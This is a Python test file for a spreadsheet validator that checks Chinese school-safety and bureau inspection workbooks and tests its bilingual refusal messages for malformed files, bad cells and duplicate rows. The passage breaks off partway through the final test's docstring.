"""Each refusal, with the message the person gets (file, sheet, row, column, value, reason zh + en).

Structural problems refuse the file; row problems refuse the row and keep it.
"""

from __future__ import annotations

import re
from datetime import date, timedelta

import pytest

from sync.report import annotate_workbook, check_bytes, check_file
from tests.sync_helpers import bureau_book, school_book, write, write_xlsx

TODAY = date(2026, 11, 28)
REG = {"1001", "1002"}


def _check(tmp_path, book, fmt="xlsx", registry=REG):
    return check_file(write(fmt, tmp_path / "book", book), registry=registry, today=TODAY)


def _only_row_problem(report):
    assert not report.refused, [p.as_text() for p in report.problems]
    assert len(report.problems) == 1, [p.as_text() for p in report.problems]
    return report.problems[0]


def _the_findings_problem(report):
    """The one problem of a refused 督查記錄 row, beside which its deduction is said not to count."""
    assert not report.refused, [p.as_text() for p in report.problems]
    [p] = [q for q in report.problems if "does not count" not in q.reason_en]
    return p


# A reason in Chinese is punctuated as Chinese is (，；：), beside the dashboard's own messages; the cell's
# own value, quoted in 「」, is as written.
_NARROW_IN_CHINESE = re.compile(r"[\u4e00-\u9fff][,;:]|[,;:][\u4e00-\u9fff]")


def _unquoted(text: str) -> str:
    return re.sub(r"「[^「」]*」", "", text)


# ---------------------------------------------------------------- the whole file

@pytest.mark.parametrize("name,content", [
    ("broken.xlsx", b"this is not a workbook at all"), ("empty.xlsx", b""), ("cut.xlsx", b"PK\x03\x04\x14\x00garbage"),
    ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100), ("x.ods", b"PK\x03\x04"),
])
def test_an_unreadable_file_is_refused_with_how_to_fix(tmp_path, name, content):
    path = tmp_path / name
    path.write_bytes(content)
    report = check_file(path)
    assert report.refused
    assert "cannot be read" in report.problems[0].reason_en and "無法讀取" in report.problems[0].reason_zh
    assert not _NARROW_IN_CHINESE.search(_unquoted(report.problems[0].reason_zh)), report.problems[0].reason_zh


def test_a_file_the_reader_cannot_make_out_is_refused_in_words_the_sender_can_act_on(tmp_path):
    """Found by the language audit and a fuzz: the English said "cannot be read as a workbook (Cannot detect
    file format)", "(sst)" or "(學校概況)", the reader's own words; both languages now say what the file is
    not and what to do, and the reader's words go to the log."""
    import zipfile

    whole = write_xlsx(tmp_path / "whole.xlsx", school_book())
    path = tmp_path / "damaged.xlsx"
    with zipfile.ZipFile(whole) as source, zipfile.ZipFile(path, "w") as damaged:  # 學校概況's part lost
        for name in source.namelist():
            if name != "xl/worksheets/sheet1.xml":
                damaged.writestr(name, source.read(name))
    [problem] = check_file(path).problems
    assert problem.reason_en == ("the file cannot be read: it is not a workbook saved by Excel, WPS or LibreOffice, "
                                 "or it is damaged; save it as .xlsx in Excel or WPS and send it again")
    assert "Excel、WPS 或 LibreOffice" in problem.reason_zh


def test_a_workbook_without_contract_sheets_is_not_a_safeschool_workbook(tmp_path):
    report = _check(tmp_path, {"Sheet1": [["a", "b"], [1, 2]]})
    assert report.refused and report.kind is None
    assert "not a safeschool workbook" in report.problems[0].reason_en
    assert "Sheet1" in report.problems[0].reason_zh


def test_a_workbook_of_both_kinds_names_the_two_sheets_and_what_to_delete(tmp_path):
    """A contract audit: a school that copied the bureau's 學校名冊 into its workbook was told only that
    the file cannot be both kinds, not which sheets (as it spelled them) nor what to do."""
    book = school_book()
    book["学校名册"] = bureau_book(("1001",))["學校名冊"]
    [p] = _check(tmp_path, book).problems
    assert p.level == "file" and "学校名册" in p.reason_zh and "學校概況" in p.reason_zh
    assert "delete the '学校名册' sheet" in p.reason_en and "'學校概況'" in p.reason_en


@pytest.mark.parametrize("fmt", ["xlsx", "xls", "ods"])
def test_a_missing_sheet_refuses_the_file(tmp_path, fmt):
    book = school_book()
    del book["保安人員"]
    report = _check(tmp_path, book, fmt)
    assert report.refused
    assert [(p.level, p.sheet) for p in report.file_problems] == [("file", "保安人員")]
    assert "missing" in report.file_problems[0].reason_en


def test_a_table_split_over_two_sheets_is_refused_once_saying_to_put_it_on_one(tmp_path):
    """Found by a held-out county's audit: 安全教育（上學期） and 安全教育（下學期） refused the file with
    "keep only one" (read: delete half the records) while a note beside it said the second sheet was
    "nothing to do if an archive".  One message: put the records on one sheet."""
    book = school_book()
    education = book.pop("安全教育")
    book["安全教育（上學期）"] = education
    book["安全教育（下學期）"] = [education[0], [date(2026, 9, 7), "安全教育課", "交通安全", "是", 600, 600]]
    report = _check(tmp_path, book)
    [problem] = report.problems
    assert (problem.level, problem.sheet) == ("file", "安全教育（下學期）")
    assert "put all its records on one sheet '安全教育'" in problem.reason_en and "keep only one" not in problem.reason_en
    assert "請把記錄都放在一個工作表「安全教育」中" in problem.reason_zh


def test_a_missing_required_column_refuses_the_file(tmp_path):
    book = school_book()
    book["應急演練"] = [[h for h in row] for row in book["應急演練"]]
    for row in book["應急演練"]:
        del row[5]  # 參演班級數
    report = _check(tmp_path, book)
    assert report.refused
    p = report.file_problems[0]
    assert (p.sheet, p.column) == ("應急演練", "參演班級數")
    assert "no '參演班級數'" in p.reason_en


@pytest.mark.parametrize("left_out, refused", [
    (("指標", "考評得分"), False),  # the contract's one optional column (and the points that go with it)
    (("扣分",), False),  # an empty one means no deduction, no veto: its absence changes nothing
    (("弄虛作假", "重大安全事故"), False),
    (("類型",), True),
])
def test_the_bureau_may_leave_out_the_inspection_columns_that_say_nothing_when_empty(tmp_path, left_out, refused):
    """data-contract.md 2.  Refusing the bureau workbook refuses its registry, and with it every school's
    workbook ("not in the registry"): only a column the findings cannot do without refuses it."""
    book = bureau_book()
    keep = [i for i, h in enumerate(book["督查記錄"][0]) if h not in left_out]
    book["督查記錄"] = [[row[i] for i in keep] for row in book["督查記錄"]]
    report = check_file(write_xlsx(tmp_path / "b.xlsx", book), today=date(2026, 11, 28))
    assert report.refused == refused, [p.reason_en for p in report.problems]
    if refused:
        assert [p.column for p in report.file_problems] == list(left_out)
    else:
        assert len(report.rows["inspections"]) == 1 and len(report.rows["registry"]) == 2


def test_the_safety_office_sheet_as_the_contract_lists_it_is_whole(tmp_path):
    """data-contract.md 1 lists 安全辦人員 as 姓名, 職務, 到崗日期: 離崗日期 is the template's own addition."""
    book = school_book()
    book["安全辦人員"] = [row[:3] for row in book["安全辦人員"]]
    report = check_file(write_xlsx(tmp_path / "s.xlsx", book), registry={"1001"}, today=date(2026, 11, 28))
    assert not report.problems and len(report.rows["office_staff"]) == 2


def test_a_query_leaving_out_a_column_whose_cells_may_be_empty_is_refused():
    """A mapped query is treated exactly as the sheet (data-contract.md 3): without end_date every guard
    who left would still be counted; it names the alias to add."""
    from sync.sql_sources import check_rows

    columns = ["school_code", "name", "campus", "birth_date", "company", "start_date",
               "helmet", "fork", "baton", "spray", "shield", "gloves", "vest"]
    row = ("1001", "張三", "本部", date(1980, 1, 1), "平安保安", date(2025, 9, 1)) + ("是",) * 7
    report = check_rows("sis", "guards", columns, [row], {"1001"}, date(2026, 11, 28), {})
    assert [p.column for p in report.file_problems] == ["end_date"] and not report.rows
    assert "AS end_date" in report.file_problems[0].reason_en


def test_a_column_twice_refuses_the_file(tmp_path):
    book = school_book()
    book["校區"] = [row + [row[1]] for row in book["校區"]]
    book["校區"][0][-1] = "在校学生数"
    report = _check(tmp_path, book)
    assert report.refused
    assert "appears 2 times" in report.file_problems[0].reason_en


def test_two_school_rows_refuse_the_file(tmp_path):
    book = school_book()
    book["學校概況"].append(["1002", "別的學校", "小學", "城關鎮", "否"])
    report = _check(tmp_path, book)
    assert report.refused and "must have one row" in report.file_problems[0].reason_en
    assert "請只保留本校的一行" in report.file_problems[0].reason_zh


def test_a_missing_school_code_refuses_the_file(tmp_path):
    book = school_book()
    book["學校概況"][1][0] = None
    report = _check(tmp_path, book)
    assert report.refused and "school code is missing" in report.file_problems[0].reason_en


def test_a_missing_school_code_or_school_row_is_said_once_with_what_to_do(tmp_path):
    """A contract audit: the blank code was said twice (the file's problem, and again as the row's
    「學校代碼」必須填寫), and neither that nor an empty 學校概況 said what to fill in."""
    book = school_book()
    book["學校概況"][1][0] = None
    [p] = _check(tmp_path, book).problems
    assert (p.level, p.sheet, p.row, p.column) == ("file", "學校概況", 2, "學校代碼")
    assert "fill in the school code the bureau's registry" in p.reason_en and "請填寫" in p.reason_zh
    book["學校概況"] = book["學校概況"][:1]
    [p] = _check(tmp_path, book).problems
    assert (p.level, p.sheet) == ("file", "學校概況")
    assert "fill in the school's row under the header" in p.reason_en and "請在表頭下" in p.reason_zh


def test_an_unregistered_school_is_refused(tmp_path):
    report = _check(tmp_path, school_book("9999"))
    assert report.refused
    p = report.file_problems[0]
    assert p.value == "9999" and "not in the bureau's school registry" in p.reason_en and "學校名冊" in p.reason_zh


@pytest.mark.parametrize("header,value,kind", [
    ("身份證號", "110101198001011234", "identity-card"),
    ("身份证号码", "11010119800101123X", "identity-card"),
    ("聯繫電話", "13812345678", "phone"),
    ("備註", "手機 138 1234 5678", "phone"),
    ("备用", "0371-12345678", "phone"),
    ("note", "ID 44030519900307001X", "identity-card"),
])
@pytest.mark.parametrize("fmt", ["xlsx", "ods"])
def test_identity_card_or_phone_numbers_refuse_the_file(tmp_path, header, value, kind, fmt):
    book = school_book()
    book["保安人員"][0].append(header)
    book["保安人員"][1].append(value)
    report = _check(tmp_path, book, fmt)
    assert report.refused
    assert any(kind in p.reason_en and "does not collect" in p.reason_en for p in report.file_problems)
    assert all(value not in (p.value or "") for p in report.problems)  # never echoed back whole


def test_ordinary_numbers_are_not_taken_for_phone_numbers(tmp_path):
    book = school_book()
    book["安全經費"].append([date(2026, 4, 1), "安全宣傳", 13800.0])
    book["隱患整改"].append(["2026-0001", date(2026, 4, 1), "消防栓損壞", None, "張主任", date(2026, 5, 1), None])
    report = _check(tmp_path, book)
    assert not report.problems


# ---------------------------------------------------------------- one row

@pytest.mark.parametrize("sheet,row_patch,column,word", [
    ("應急演練", {0: "三月"}, "演練日期", "is not a date"),
    ("應急演練", {0: date(2027, 1, 5)}, "演練日期", "after today"),
    ("應急演練", {0: date(1999, 12, 31)}, "演練日期", "before 2000"),
    ("應急演練", {5: -2}, "參演班級數", "negative"),
    ("應急演練", {5: 2.5}, "參演班級數", "whole number"),
    ("應急演練", {5: 10, 6: 12}, "簽到班級數", "cannot exceed"),
    ("應急演練", {3: "也許"}, "有預案", "yes/no"),
    ("應急演練", {2: None}, "演練類型", "must be filled in"),
    ("責任書", {1: 50, 2: 51}, "已簽訂人數", "cannot exceed"),
    ("校區", {1: 100, 3: 150}, "寄宿生數", "cannot exceed"),
    ("保安人員", {2: date(2015, 1, 1)}, "出生日期", "makes the guard 9"),
    ("保安人員", {2: "1890-01-01"}, "出生日期", "not plausible"),
    ("保安人員", {1: "分校"}, "校區", "not listed on the campuses sheet"),
    ("保安人員", {5: date(2023, 1, 1)}, "離崗日期", "before the start date"),
    ("安全教育", {1: "班會"}, "類型", "not one of the allowed values"),
    ("隱患整改", {6: date(2026, 2, 1)}, "完成日期", "before the date found"),
    ("安全經費", {2: "三百"}, "金額", "not a number"),
    ("安全經費", {2: 10.005}, "金額", "two decimals"),
])
def test_a_bad_cell_refuses_its_row_with_where_and_why(tmp_path, sheet, row_patch, column, word):
    book = school_book()
    for i, value in row_patch.items():
        book[sheet][1][i] = value
    report = _check(tmp_path, book)
    p = _only_row_problem(report)
    assert (p.level, p.sheet, p.row, p.column) == ("row", sheet, 2, column)
    assert word in p.reason_en, p.reason_en
    assert p.reason_zh and p.reason_zh != p.reason_en
    # what to do, too: the school reads this beside its cell (必須填寫 and 應為 say it themselves)
    assert any(w in p.reason_zh for w in ("請", "應為", "必須填寫")), f"what to do is not said: {p.reason_zh}"
    assert not _NARROW_IN_CHINESE.search(_unquoted(p.reason_zh)), f"written with a Latin comma: {p.reason_zh}"
    rejected = report.rejected[0]
    assert rejected["row_no"] == 2 and rejected["school_code"] == "1001" and rejected["raw"]
    accepted_rows = {r["row_no"] for r in report.rows.get(p.sheet_key, [])}
    assert 2 not in accepted_rows


def test_a_guards_start_before_his_birth_says_so_not_a_negative_age(tmp_path):
    """A contract audit: 上崗日期 1960-01-01 with 出生日期 1975-05-01 was "makes the guard -16"."""
    book = school_book()
    book["保安人員"][1][4] = date(1960, 1, 1)
    p = _only_row_problem(_check(tmp_path, book))
    assert (p.sheet, p.row, p.column) == ("保安人員", 2, "出生日期") and "-16" not in p.reason_en + p.reason_zh
    assert "start date 1960-01-01 is before the birth date 1975-05-01" in p.reason_en
    assert "上崗日期1960-01-01早於出生日期1975-05-01" in p.reason_zh


@pytest.mark.parametrize("year", [1999, 2028])
def test_an_agreements_year_out_of_range_says_the_range(tmp_path, year):
    """A contract audit: 「年度「2028」不合理」 said neither which years are accepted nor what to write."""
    book = school_book()
    book["責任書"][1][0] = year
    p = _only_row_problem(_check(tmp_path, book))
    assert (p.sheet, p.row, p.column, p.value) == ("責任書", 2, "年度", str(year))
    assert "expected 2000 to 2027" in p.reason_en and "2000年至2027年" in p.reason_zh


@pytest.mark.parametrize("sheet,row_patch,said,said_en", [
    ("保安人員", {5: date(2023, 1, 1)}, "離崗日期2023-01-01早於上崗日期2024-01-01，請核對這兩個日期",
     "the end date 2023-01-01 is before the start date 2024-01-01; check the two dates"),
    ("保安培訓", {1: date(2026, 3, 10), 2: date(2026, 3, 1)}, "結束日期2026-03-01早於開始日期2026-03-10，請核對這兩個日期",
     "the end date 2026-03-01 is before the start date 2026-03-10; check the two dates"),
])
def test_an_end_before_its_start_is_said_in_the_sheets_own_headings(tmp_path, sheet, row_patch, said, said_en):
    """An audit: a training's dates were named a guard's 離崗/上崗 (leaving a post, taking it up).  Both
    dates are said, and what to do: which of the two is wrong only the school knows."""
    book = school_book()
    for i, value in row_patch.items():
        book[sheet][1][i] = value
    p = _only_row_problem(_check(tmp_path, book))
    assert p.sheet == sheet and p.reason_zh == said and p.reason_en == said_en


@pytest.mark.parametrize("sheet,row_patch,said,said_en", [
    ("應急演練", {5: 10, 6: 12}, "簽到班級數（12）不能多於參演班級數（10）；請按演練簽到表核對這兩欄",
     "classes signed in (12) cannot exceed participating classes (10); check both against the drill's sign-in sheet"),
    ("責任書", {1: 50, 2: 51}, "已簽訂人數（51）不能多於教職工總數（50）；請核對這兩個數字",
     "staff who signed (51) cannot exceed staff in total (50); check the two figures"),
    ("校區", {1: 100, 3: 150}, "寄宿生數（150）不能多於在校學生數（100）；請核對這兩個數字",
     "boarders (150) cannot exceed students (100); check the two figures"),
])
def test_a_part_above_its_whole_says_both_figures_and_what_to_check(tmp_path, sheet, row_patch, said, said_en):
    """A review of the messages: 「簽到班級數不能多於參演班級數」 gave neither figure (the cell shown was one of
    them) nor what to do."""
    book = school_book()
    for i, value in row_patch.items():
        book[sheet][1][i] = value
    p = _only_row_problem(_check(tmp_path, book))
    assert (p.reason_zh, p.reason_en) == (said, said_en)


def test_a_date_before_1900_written_into_a_date_cell_is_not_called_a_time_of_day(tmp_path):
    """openpyxl writes 1890-01-01 as the serial -3650 (Excel shows #####); calamine reads it as 00:00.
    An audit: the school was told its birth date was "a time of day"."""
    book = school_book()
    book["保安人員"][1][2] = date(1890, 1, 1)
    p = _only_row_problem(_check(tmp_path, book))
    assert p.column == "出生日期" and "before 1900" in p.reason_en and "time of day" not in p.reason_en
    assert "1900 年以前" in p.reason_zh


@pytest.mark.parametrize("sheet,row_patch,column,said", [
    ("安全教育", {4: 400, 5: 40}, "參加人數", "參加人數400多於應參加人數40"),
    ("應急演練", {1: "西區"}, "校區", "校區「西區」不在「校區」表中"),
    ("保安演練", {1: "西區"}, "校區", "校區「西區」不在「校區」表中"),
    ("護學崗", {1: "西區"}, "校區", "校區「西區」不在「校區」表中"),
])
def test_a_value_that_is_likely_a_slip_is_kept_and_said(tmp_path, sheet, row_patch, column, said):
    """An audit: 400 attended of 40 expected and a drill at a campus the 校區 sheet does not list loaded
    without a word.  Neither is refused (a visitor may attend; drills count per school), but the school
    is told, beside the cell, and the row is kept."""
    book = school_book()
    for i, value in row_patch.items():
        book[sheet][1][i] = value
    report = _check(tmp_path, book)
    [p] = report.problems
    assert (p.level, p.sheet, p.row, p.column) == ("note", sheet, 2, column) and said in p.reason_zh, p.reason_zh
    assert p.reason_en and not report.refused and not report.rejected
    assert any(r["row_no"] == 2 for r in report.rows[p.sheet_key])


def test_a_second_row_for_one_campus_is_refused_as_a_duplicate(tmp_path):
    book = school_book()
    book["校區"].append(list(book["校區"][1]))
    p = _only_row_problem(_check(tmp_path, book))
    assert (p.row, p.column) == (3, "校區名稱") and "duplicates row 2" in p.reason_en
    # what makes the two one record, and what to do (the README: refused "saying what to do")
    assert "(the same campus)" in p.reason_en and "delete one" in p.reason_en and "校區名稱相同" in p.reason_zh


@pytest.mark.parametrize("spelling", ["东区", "東 區", "东　区"])
def test_a_campus_or_a_guard_typed_again_in_the_other_script_or_spaced_is_the_same_one(tmp_path, spelling):
    """東區, 东区 and 東 區 are one campus, 吳保安 and 吴保安 one guard, as the scoring matches them across
    sheets (found by an audit: within one sheet they were two campuses, each needing its guards, and two
    guards)."""
    book = school_book(campus="東區")
    book["校區"].append([spelling] + book["校區"][1][1:])
    book["保安人員"].append(["吴保安", "東區", date(1976, 5, 1), "平安保安公司", date(2024, 1, 1), None] + ["是"] * 7)
    book["保安人員"].append(["吳保安", "东区", date(1976, 5, 1), "平安保安公司", date(2024, 1, 1), None] + ["是"] * 7)
    report = _check(tmp_path, book)
    assert {(p.sheet, p.row) for p in report.row_problems} == {("校區", 3), ("保安人員", 5)}
    assert all("duplicates row" in p.reason_en for p in report.row_problems)


def test_a_planned_end_of_service_and_a_deadline_may_lie_ahead(tmp_path):
    book = school_book()
    book["保安人員"][1][5] = date(2027, 6, 30)
    book["隱患整改"][1][5] = date(2027, 1, 31)
    book["隱患整改"][1][6] = None
    book["保安培訓"].append(["趙保安", TODAY - timedelta(days=1), TODAY + timedelta(days=3), "是", "技能"])  # under way
    assert not _check(tmp_path, book).problems


def test_a_training_typed_to_end_years_ahead_is_refused(tmp_path):
    """A course under way ends within weeks; one typed to end in 2062 would credit the guard with every day
    until the evaluation date (E7)."""
    book = school_book()
    book["保安培訓"].append(["趙保安", TODAY - timedelta(days=1), date(2062, 3, 3), "是", "技能"])
    [p] = _check(tmp_path, book).problems
    assert (p.sheet, p.column, p.value) == ("保安培訓", "結束日期", "2062-03-03") and "check the year" in p.reason_en


def test_a_deadline_beyond_ten_years_is_refused(tmp_path):
    """3026 typed for 2026 would keep a hazard inside its deadline for good (F3); found by an audit, when
    9999-12-31 stored in a date column stopped the county's scoring."""
    book = school_book()
    book["隱患整改"][1][5] = date(3026, 6, 30)
    book["隱患整改"][1][6] = None  # still open
    [p] = _check(tmp_path, book).problems
    assert (p.sheet, p.column, p.value) == ("隱患整改", "整改時限", "3026-06-30")
    assert "more than 10 years after today" in p.reason_en and "check the year" in p.reason_en
    assert "10年之後" in p.reason_zh
    book["隱患整改"][1][5] = TODAY + timedelta(days=3 * 365)  # three years ahead: a date someone means
    assert not _check(tmp_path, book).problems


@pytest.mark.parametrize("end", [date(2055, 6, 30), date(2099, 12, 31), date(9999, 12, 31)])
def test_an_end_of_service_far_ahead_is_a_planned_or_open_ended_one(tmp_path, end):
    """A planned retirement, or the "no end" date personnel systems write, is taken as it is typed."""
    book = school_book()
    book["保安人員"][1][5] = end
    report = _check(tmp_path, book)
    assert not report.problems and report.rows["guards"][0]["end_date"] == end


def test_a_training_that_has_not_started_is_still_in_the_future(tmp_path):
    book = school_book()
    book["保安培訓"].append(["趙保安", TODAY + timedelta(days=1), TODAY + timedelta(days=3), "是", "技能"])
    [p] = _check(tmp_path, book).problems
    assert (p.sheet, p.column) == ("保安培訓", "開始日期") and "in the future" in p.reason_en


# ---------------------------------------------------------------- the bureau workbook

@pytest.mark.parametrize("patch,column,word", [
    ({1: "9999"}, "學校代碼", "not in the bureau's school registry"),
    ({7: "E1", 8: 6}, "考評得分", "exceed indicator E1's maximum of 5"),
    ({7: "Z9", 8: 1}, "指標", "does not exist"),
    ({7: None, 8: 2}, "指標", "without an indicator"),
    ({7: "E1", 8: None}, "考評得分", "no assessed points"),
    ({7: "E1", 8: -1}, "考評得分", "negative"),
    ({2: "突擊"}, "類型", "not one of the allowed values"),
])
def test_inspections_are_checked_against_the_registry_and_the_rubric(tmp_path, patch, column, word):
    book = bureau_book()
    for i, value in patch.items():
        book["督查記錄"][1][i] = value
    report = check_file(write_xlsx(tmp_path / "bureau.xlsx", book), today=TODAY)
    assert report.kind == "bureau_workbook"
    p = _the_findings_problem(report)
    assert (p.sheet, p.column) == ("督查記錄", column) and word in p.reason_en
    assert any(w in p.reason_zh for w in ("請", "應為")), f"what to do is not said: {p.reason_zh}"
    assert not _NARROW_IN_CHINESE.search(_unquoted(p.reason_zh)), f"written with a Latin comma: {p.reason_zh}"


@pytest.mark.parametrize("written,points", [("扣2分", 2.0), ("扣 2 分", 2.0), ("2分", 2.0), ("扣2", 2.0)])
def test_a_deduction_in_the_bureaus_own_words_is_its_points(tmp_path, written, points):
    """Found by an audit: 2分 was read, 扣2分 refused as not a number."""
    book = bureau_book()
    book["督查記錄"][1][4] = written
    report = check_file(write_xlsx(tmp_path / "bureau.xlsx", book), today=TODAY)
    assert [r["deduction"] for r in report.rows["inspections"]] == [points], [p.as_text() for p in report.problems]


def test_a_deduction_written_with_a_minus_is_told_to_drop_it(tmp_path):
    book = bureau_book()
    book["督查記錄"][1][4] = -2
    p = _only_row_problem(check_file(write_xlsx(tmp_path / "bureau.xlsx", book), today=TODAY))
    assert p.column == "扣分" and "a deduction of 2 is 2, not -2" in p.reason_en


def test_a_veto_on_a_row_refused_for_another_cell_says_it_does_not_count(tmp_path):
    """Found by an audit: 弄虛作假 = 是 on a row refused for its indicator (C2指標) left the school qualified
    and first, with only the indicator named: the veto's own cell now says it is not in force until the
    row is corrected, and the indicator's names the id meant."""
    book = bureau_book()
    book["督查記錄"][1][5] = "是"
    book["督查記錄"][1][7], book["督查記錄"][1][8] = "C2指標", 3
    report = check_file(write_xlsx(tmp_path / "bureau.xlsx", book), today=TODAY)
    said = {p.column: p.reason_en for p in report.row_problems}
    assert "if C2 is meant, write C2 alone" in said["指標"]
    assert "its falsification finding (a veto: the school is disqualified) does not count" in said["弄虛作假"]
    assert "its deduction of 1 points does not count" in said["扣分"]
    assert not report.rows["inspections"]


def test_a_finding_pasted_twice_is_named_at_a_cell_that_holds_something(tmp_path):
    """The duplicate was named at 考評得分, empty on most findings: the annotated workbook marked a blank."""
    book = bureau_book()
    book["督查記錄"].append(list(book["督查記錄"][1]))
    [p] = check_file(write_xlsx(tmp_path / "bureau.xlsx", book), today=TODAY).row_problems
    assert p.column == "重大安全事故" and p.row == 3


def test_the_same_finding_pasted_twice_is_refused_once_not_deducted_twice(tmp_path):
    """Found by an audit: a finding pasted twice took 1 point twice, without a word.  The second row is
    refused as the first's duplicate (kept, shown to the bureau); a finding that differs in any cell,
    or the same finding at another school, stands."""
    book = bureau_book(("1001", "1002"))
    finding = book["督查記錄"][1]
    book["督查記錄"] += [list(finding), [finding[0], "1002"] + finding[2:], finding[:4] + [2] + finding[5:]]
    report = check_file(write_xlsx(tmp_path / "bureau.xlsx", book), today=TODAY)
    [p] = report.row_problems
    assert (p.sheet, p.row) == ("督查記錄", 3) and "duplicates row 2" in p.reason_en
    # its own columns named (a column of the bureau's own beside them does not tell two findings apart)
    assert "the same date, kind, finding, deduction" in p.reason_en and "every column" not in p.reason_en
    assert [(r["school_code"], r["deduction"]) for r in report.rows["inspections"]] == [
        ("1001", 1.0), ("1002", 1.0), ("1001", 2.0)]


@pytest.mark.parametrize("fmt", ["xlsx", "xls", "ods"])
def test_a_drill_or_a_lecture_pasted_twice_is_refused_once_not_counted_twice(tmp_path, fmt):
    """Found by a contract audit: a row the same as an earlier one in every cell counted twice, as the
    bureau's finding pasted twice deducted twice.  school_book()'s drills are 12 of 12 classes signed
    (3-10) and 11 of 12 (4-14): D5 (4.4.4) is 4 x 1/2 = 2.0; the first pasted again made it 4 x 2/3 = 2.67,
    and one 安全講座 pasted again made C4 (4.3.4) two lectures in the spring semester, 3 x 1 = 3 where one
    lecture earns 3 x 1/2 = 1.5.  The pasted row is refused (kept, shown), saying so; a row that differs
    in any cell (the same day's drill at another campus, another lecture that day) stands."""
    book = school_book()
    drills, education = book["應急演練"], book["安全教育"]
    lecture = [date(2026, 3, 20), "安全講座", "防火", "是", 100, 100]
    drills.insert(2, list(drills[1]))  # row 3: row 2 pasted again
    drills.append(["2026-03-10", "东区", "消防疏散", "Y", "良好", "12", 12, 600])  # another campus's, that day
    book["校區"].append(["东区", 100, 10, 0, "是", "是"])
    education += [lecture, list(lecture), lecture[:2] + ["防溺水"] + lecture[3:]]  # rows 3, 4 (pasted), 5
    report = check_file(write(fmt, tmp_path / "book", book), registry=REG, today=TODAY)
    assert not report.refused
    assert [(p.sheet, p.row, p.column) for p in report.problems] == [("應急演練", 3, "演練日期"), ("安全教育", 4, "日期")]
    for p in report.problems:
        assert p.level == "row" and p.value and "duplicates row" in p.reason_en and "every column" in p.reason_en
        assert "每一列都相同" in p.reason_zh
    assert [r["row_no"] for r in report.rows["drills"]] == [2, 4, 5]
    assert [r["row_no"] for r in report.rows["education"]] == [2, 3, 5]
    assert {(r["sheet"], r["row_no"]) for r in report.rejected} == {("應急演練", 3), ("安全教育", 4)}


def test_safety_classes_logged_class_by_class_in_an_extra_column_all_stand(tmp_path):
    """A school that logs its weekly 安全教育課 once per class, the class in an extra column of its own
    (班級), writes rows alike in every contract column: they are told apart by that column, and none is
    refused as another's duplicate (the contract keeps unknown extra columns out of scoring, not out of
    the row).  Only a row the same in every cell, extra columns included, is a pasted copy."""
    book = school_book()
    education = book["安全教育"]
    education[0] = education[0] + ["班級"]
    education[1] = education[1] + ["一(1)班"]
    education += [education[1][:6] + ["一(2)班"], education[1][:6] + ["一(3)班"], list(education[1])]
    report = check_file(write_xlsx(tmp_path / "book.xlsx", book), registry=REG, today=TODAY)
    [p] = report.problems
    assert (p.sheet, p.row) == ("安全教育", 5) and "duplicates row 2" in p.reason_en
    assert [r["row_no"] for r in report.rows["education"]] == [2, 3, 4]


@pytest.mark.parametrize("fmt", ["xlsx", "ods"])
def test_two_drills_of_one_day_at_two_times_stand_and_one_written_again_in_another_form_is_a_copy(tmp_path, fmt):
    """A school that runs the same drill for its morning and its afternoon pupils writes the hour in the
    date cell: the two rows differ and both count (D1-D5 read drills, not days; the check compared the day
    alone).  The time tells them apart, not the way it is written: 09:00 as a real date-time, as the text
    9:00 or as 上午9點, and 下午2:30 as 14:30, are one moment each, and the copies are refused (they counted
    as drills of their own while the check compared the text as written; a regression audit)."""
    from datetime import datetime

    book = school_book()
    drills = book["應急演練"]
    rest = drills[1][1:]
    book["應急演練"] = [drills[0], [datetime(2026, 3, 10, 9, 0), *rest], ["2026-03-10 9:00", *rest],
                        ["2026年3月10日上午9點", *rest], ["2026-03-10 下午2:30", *rest], ["2026-03-10 14:30", *rest],
                        ["2026-03-10 00:00", *rest], drills[2]]
    report = check_file(write(fmt, tmp_path / "book", book), registry=REG, today=TODAY)
    assert [(p.row, p.reason_en.split(" (")[0]) for p in report.problems] == [
        (3, "duplicates row 2"), (4, "duplicates row 2"), (6, "duplicates row 5")]
    assert [(r["row_no"], r["date"]) for r in report.rows["drills"]] == [  # 00:00 is the day alone, as a date
        (2, date(2026, 3, 10)), (5, date(2026, 3, 10)), (7, date(2026, 3, 10)), (8, date(2026, 4, 14))]


@pytest.mark.parametrize("heading", ["序號", "序号", "No."])
def test_a_row_pasted_again_under_its_own_serial_number_is_still_a_duplicate(tmp_path, heading):
    """Found by a regression audit: rows told apart by any extra column stand (班級 above), and
    a 序號 column, which most forms have, numbered the pasted copy 3 (typed, filled, or =ROW()-1): the
    drill pasted twice counted twice again (D5 4 x 2/3 for 4 x 1/2).  A serial number says where a row is,
    not which record: it tells no two rows apart; another extra column still does."""
    book = school_book()
    drills = book["應急演練"]
    book["應急演練"] = [[heading] + drills[0] + ["備註"], [1] + drills[1] + [None], [2] + drills[1] + [None],
                      [3] + drills[2] + [None], [4] + drills[2] + ["東門"]]
    report = check_file(write_xlsx(tmp_path / "book.xlsx", book), registry=REG, today=TODAY)
    [p] = report.problems
    assert (p.sheet, p.row) == ("應急演練", 3) and "duplicates row 2" in p.reason_en
    assert [r["row_no"] for r in report.rows["drills"]] == [2, 4, 5]


@pytest.mark.parametrize("engine", ["openpyxl", "odf"])
def test_a_row_pasted_twice_in_a_workbook_pandas_wrote_with_its_index_is_still_a_duplicate(tmp_path, engine):
    """Found by a regression audit: pandas' to_excel writes its index (0, 1, 2 ...) in a column
    with no heading by default, as a grader's or a county's script does; that column told the pasted copy
    apart and the drill and the lecture counted twice.  A whole number in a column with no heading is a
    row's place, not a record's; a text there (一(2)班) still tells rows apart."""
    import pandas as pd

    book = school_book()
    book["應急演練"].append(list(book["應急演練"][1]))
    book["安全教育"] += [list(book["安全教育"][1]), list(book["安全教育"][1])]
    path = tmp_path / ("book.ods" if engine == "odf" else "book.xlsx")
    with pd.ExcelWriter(path, engine=engine) as writer:
        for name, rows in book.items():
            frame = pd.DataFrame(rows[1:], columns=rows[0])
            if name == "安全教育":
                frame.index = [0, "一(2)班", "一(2)班"]
            frame.to_excel(writer, sheet_name=name)
    report = check_file(path, registry=REG, today=TODAY)
    assert [(p.sheet, p.row) for p in report.problems] == [("應急演練", 4), ("安全教育", 4)], \
        [p.as_text() for p in report.problems]
    assert [r["row_no"] for r in report.rows["drills"]] == [2, 3]
    assert [r["row_no"] for r in report.rows["education"]] == [2, 3]


def test_two_assessments_of_one_indicator_on_one_day_are_both_kept_and_the_bureau_told_which_counts(tmp_path):
    """rules.md: the latest finding of the year wins; on one day the lower row does, and the bureau is told
